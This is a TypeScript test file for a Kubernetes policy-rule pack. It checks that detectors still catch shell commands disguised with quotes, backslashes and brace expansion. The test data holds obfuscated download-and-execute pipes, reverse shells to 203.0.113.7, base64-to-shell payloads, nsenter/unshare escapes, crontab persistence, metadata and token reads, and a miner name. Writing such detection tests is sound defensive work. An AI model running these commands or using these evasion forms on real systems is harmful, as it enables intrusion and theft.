// What a shell makes of quotes, backslashes, braces and empty expansions inside words: rules over commands read the words that come out.
import { describe, expect, it } from 'vitest';
import { loadPack } from '../../src/judge/pack.ts';
import { change, cronJob } from '../policy/policy-manifests.ts';

const PACK = await loadPack();

function rulesThatFire(command: string): readonly string[] {
  const pod = ['containers:', '- name: report', '  image: registry.example.com/report:1'];
  const lines = [...pod, `  command: [sh, -c, ${JSON.stringify(command)}]`].map(line => `          ${line}`);
  const subject = change(null, cronJob(lines.join('\n')));
  return PACK.filter(rule => {
    const { hits, problems } = rule.judge(subject);
    expect(problems).toEqual([]);
    return hits.length > 0;
  }).map(rule => rule.id);
}

describe('is read as the shell reads it', () => {
  it.each([
    ['download-and-execute', "c'u'rl -s https://example.com/x | s''h"],
    ['download-and-execute', 'c\\url -s https://example.com/x | \\sh'],
    ['download-and-execute', '"curl" -s https://example.com/x | "bash"'],
    ['download-and-execute', '{curl,-s,https://example.com/x}|sh'],
    ['download-and-execute', '{wget,-qO-,{https://example.com/x,https://example.com/y}}|{sh,-s}'],
    ['download-and-execute', 'cu$@rl -s https://example.com/x | ba$*sh'],
    ['download-and-execute', 'cu\\\nrl -s https://example.com/x |\\\n sh'],
    ['download-and-execute', "curl -so /tmp/x https://example.com/x; ch'm'od +x '/tmp/x'; '/tmp/x'"],
    ['reverse-shell', "n'c' 203.0.113.7 4444 -e '/bin/sh'"],
    ['reverse-shell', '{nc,203.0.113.7,4444,-e,/bin/sh}'],
    ['reverse-shell', 'bash -i >& "/dev"/t\\cp/203.0.113.7/4444 0>&1'],
    ['encoded-payload', 'echo aWQ= | b\'ase\'64 -d | "sh"'],
    ['host-escape-command', "ns\\enter '--target' 1 --mount -- bash"],
    ['host-escape-command', '{nsenter,-t,1,-m,bash}'],
    ['host-persistence-command', "echo x >> /mnt/etc/cro'n'tab"],
    ['metadata-endpoint-access', "curl -s http://169.254.'169'.254/latest/"],
    ['cryptominer-indicator', "/tmp/x'm'rig -o pool"],
    ['suspicious-remote-url', 'curl -s http://203."0".113.7/a'],
    ['runtime-package-install', "a'p't-get i\\nstall -y nmap"],
    ['service-account-token-read', "cat /var/run/secrets/kubernetes.io/'service'account/token"],
  ])('%s: %s', (id, command) => {
    expect(rulesThatFire(command)).toContain(id);
  });
});

describe('unshare', () => {
  it.each([
    'unshare -m sh',
    'unshare --mount --pid sh',
    'unshare -UrmC bash',
    'unshare --user --cgroup bash',
    "un'share' -rm sh",
  ])('%s: leaves its container', command => {
    expect(rulesThatFire(command)).toContain('host-escape-command');
  });
});

describe('is no more than it is', () => {
  it.each([
    "awk '{print $1, $2}' /data/a.txt | sort -u",
    'echo "use curl, wget, and then a sh script"',
    `curl -fsS -d '{"text": "nc, sh and bash", "tags": ["curl", "sh"]}' https://api.example.com/notes | jq '{id, text}'`,
    "find /work -name '*.sh' -exec rm {} \\;",
    'export NO_PROXY="{169.254.169.254,10.0.0.0/8}"; printf \'%s\\n\' "$@" {a,b,c}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the shell's.
    'curl -fsS -o "${DIR}/tool" https://example.com/tool; chmod +x "${DIR}/tool"; "${BIN}/report" --all',
  ])('%s', command => {
    expect(
      rulesThatFire(command).filter(
        id => !['run-as-root', 'image-mutable', 'default-service-account-token'].includes(id),
      ),
    ).toEqual([]);
  });
});
